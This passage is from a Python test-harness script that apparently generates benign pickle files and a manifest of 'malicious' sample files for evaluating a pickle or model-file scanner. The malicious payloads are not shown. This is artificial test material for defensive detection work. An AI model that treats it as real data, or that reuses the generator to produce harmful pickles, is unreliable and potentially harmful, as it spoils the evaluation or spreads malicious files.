       "http": __import__("http").HTTPStatus.OK, "nt": usermods.Point(1, 2), "partial": functools.partial(usermods.scale, factor=3.0),
       "bound": usermods.Helper(2).apply, "ref": usermods.scale, "cls": usermods.Helper, "old": usermods.OldStyle(),
       "dt": datetime.datetime(2024, 1, 2, 3, 4, tzinfo=datetime.timezone.utc), "d": datetime.date(2024, 1, 1),
       "td": datetime.timedelta(hours=3), "dec": decimal.Decimal("1.50"), "fr": fractions.Fraction(1, 3),
       "uuid": uuid.UUID(int=5), "od": collections.OrderedDict(a=1), "dd": collections.defaultdict(list, {"k": [1]}),
       "dq": collections.deque([1, 2]), "cnt": collections.Counter("aab"), "set": {1, 2}, "fs": frozenset({3}),
       "c": 1 + 2j, "b": b"\x00\x01", "ba": bytearray(b"xy"), "none": type(None), "path": pathlib.PurePosixPath("/a/b"),
       "cfg": usermods.TrainConfig(), "ns": argparse.Namespace(a=1), "sl": slice(1, 5, 2), "rg": range(3)}
for proto in range(0, 6):
    n = "d_stdlib_user_objects_proto%%d" %% proto
    p = os.path.join(out, n + ".pkl"); open(p, "wb").write(pickle.dumps(obj, protocol=proto)); emit(n, p, "pickle", [])
p = os.path.join(out, "d_function_reference_only.pkl"); open(p, "wb").write(pickle.dumps({"fn": usermods.scale, "join": os.path.join, "getter": __import__("operator").itemgetter(1)}))
emit("d_function_reference_only", p, "pickle", [])
print(json.dumps(made))
'''


def benign_script(out_dir, big_rows=65536):
    """Python source that writes the benign corpus into out_dir and prints a JSON list of
    {name, path, loader, needs}. big_rows * 4 KiB is the size of the large torch file
    (65536 rows = 256 MiB)."""
    return BENIGN_GEN % {"out": out_dir, "usermods": USERMODS, "big_rows": big_rows}


def all_benign(tmpdir, big_rows=65536):
    """Builds the benign corpus with the real libraries (in a /usr/bin/python3 subprocess)
    and returns [(name, path, needs_modules, loader)]."""
    import subprocess
    r = subprocess.run(["/usr/bin/python3", "-c", benign_script(str(tmpdir), big_rows)], capture_output=True,
                       text=True, timeout=900, env=dict(os.environ, OMP_NUM_THREADS="1"))
    if r.returncode != 0:
        raise RuntimeError("benign generator failed:\n" + r.stderr[-3000:])
    made = json.loads(r.stdout.strip().splitlines()[-1])
    return [(m["name"], m["path"], tuple(m["needs"]), m["loader"]) for m in made]


BENIGN_LOADERS = dict(LOADERS, numpy_npz="dict(numpy.load(path, allow_pickle=True))")


def _main(argv):
    if len(argv) >= 3 and argv[0] == "malicious":
        out, md = argv[1], argv[2]
        os.makedirs(out, exist_ok=True)
        man = []
        for c in malicious_cases(md):
            p = os.path.join(out, c.name + ".bin")
            with open(p, "wb") as f:
                f.write(c.data)
            man.append({"name": c.name, "class": c.klass, "path": p, "runs": c.runs, "loader": c.loader,
                        "needs": list(c.needs), "note": c.note})
        print(json.dumps(man))
        return 0
    if len(argv) >= 2 and argv[0] == "benign":
        print(json.dumps(all_benign(argv[1])))
        return 0
    print(__doc__)
    return 2


if __name__ == "__main__":
    sys.exit(_main(sys.argv[1:]))
